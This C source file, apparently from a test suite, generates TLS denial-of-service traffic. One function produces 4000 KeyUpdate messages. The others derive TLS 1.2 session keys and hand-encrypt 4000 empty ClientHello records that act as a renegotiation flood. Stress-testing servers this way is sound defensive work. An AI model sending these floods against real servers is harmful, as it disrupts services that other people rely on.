/* SPDX-License-Identifier: ISC */
#include "hostile-floods.h"

#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <openssl/params.h>
#include <stdbool.h>
#include <string.h>

#define RECORDS 4000 /* on each connection */

const void *flood_key_updates(SSL *tls, size_t *ret_length)
{
	BIO *records = BIO_new(BIO_s_mem());
	char *bytes;

	SSL_set0_wbio(tls, records);
	for (int i = 0; i < RECORDS; i++)
		if (SSL_key_update(tls, SSL_KEY_UPDATE_NOT_REQUESTED) != 1 ||
		    SSL_do_handshake(tls) != 1)
			break;
	*ret_length = (size_t)BIO_get_mem_data(records, &bytes);
	return bytes;
}

/* The key and the fixed part of the nonce with which a client of TLS 1.2 encrypts (AES-128-GCM). */
static bool derive_keys(const SSL *tls, unsigned char keys[static 40])
{
	unsigned char master[48], seed[13 + 64] = "key expansion";
	EVP_KDF *kdf = EVP_KDF_fetch(NULL, "TLS1-PRF", NULL);
	EVP_KDF_CTX *derivation = EVP_KDF_CTX_new(kdf);
	OSSL_PARAM parameters[] = {
		OSSL_PARAM_utf8_string("digest", (char[]){ "SHA256" }, 6),
		OSSL_PARAM_octet_string("secret", master, sizeof master),
		OSSL_PARAM_octet_string("seed", seed, sizeof seed),
		OSSL_PARAM_END,
	};
	bool done;

	(void)SSL_SESSION_get_master_key(SSL_get_session(tls), master, sizeof master);
	(void)SSL_get_server_random(tls, seed + 13, 32);
	(void)SSL_get_client_random(tls, seed + 45, 32);
	done = EVP_KDF_derive(derivation, keys, 40, parameters) == 1;
	EVP_KDF_CTX_free(derivation);
	EVP_KDF_free(kdf);
	return done;
}

/* An empty ClientHello as record number `number`. Returns its length. */
static size_t seal_hello(EVP_CIPHER_CTX *cipher, const unsigned char keys[static 40],
			 unsigned char *record, unsigned char number[static 8])
{
	unsigned char aad[13] = { 0 }, nonce[12];
	static const unsigned char hello[4] = { 1, 0, 0, 0 };
	static const unsigned char header[5] = { 22, 3, 3, 0, 8 + sizeof hello + 16 };
	int length;

	for (int i = 7; i >= 0 && ++number[i] == 0; i--)
		;
	memcpy(aad, number, 8);
	memcpy(aad + 8, (const unsigned char[]){ 22, 3, 3, 0, sizeof hello }, 5);
	memcpy(nonce, keys + 32, 4);
	memcpy(nonce + 4, number, 8);
	memcpy(record, header, sizeof header);
	memcpy(record + 5, number, 8);
	(void)EVP_EncryptInit_ex(cipher, EVP_aes_128_gcm(), NULL, keys, nonce);
	(void)EVP_EncryptUpdate(cipher, NULL, &length, aad, sizeof aad);
	(void)EVP_EncryptUpdate(cipher, record + 13, &length, hello, sizeof hello);
	(void)EVP_EncryptFinal_ex(cipher, record + 17, &length);
	(void)EVP_CIPHER_CTX_ctrl(cipher, EVP_CTRL_AEAD_GET_TAG, 16, record + 17);
	return 13 + sizeof hello + 16;
}

const void *flood_renegotiations(const SSL *tls, size_t *ret_length)
{
	static unsigned char records[RECORDS * 64];
	unsigned char keys[40], number[8] = { 0 };
	EVP_CIPHER_CTX *cipher = EVP_CIPHER_CTX_new();

	*ret_length = 0;
	if (derive_keys(tls, keys))
		for (int i = 0; i < RECORDS; i++)
			*ret_length += seal_hello(cipher, keys, records + *ret_length, number);
	EVP_CIPHER_CTX_free(cipher);
	return records;
}
